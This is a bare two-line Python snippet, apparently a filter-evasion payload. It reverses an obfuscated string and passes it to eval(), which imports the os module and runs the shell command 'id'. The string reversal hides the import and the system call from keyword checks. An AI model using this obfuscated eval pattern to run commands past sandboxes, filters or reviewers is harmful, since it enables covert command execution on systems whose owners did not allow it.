payload = ")'di'(metsys.)'so'(__tropmi__"
eval(payload[::-1])
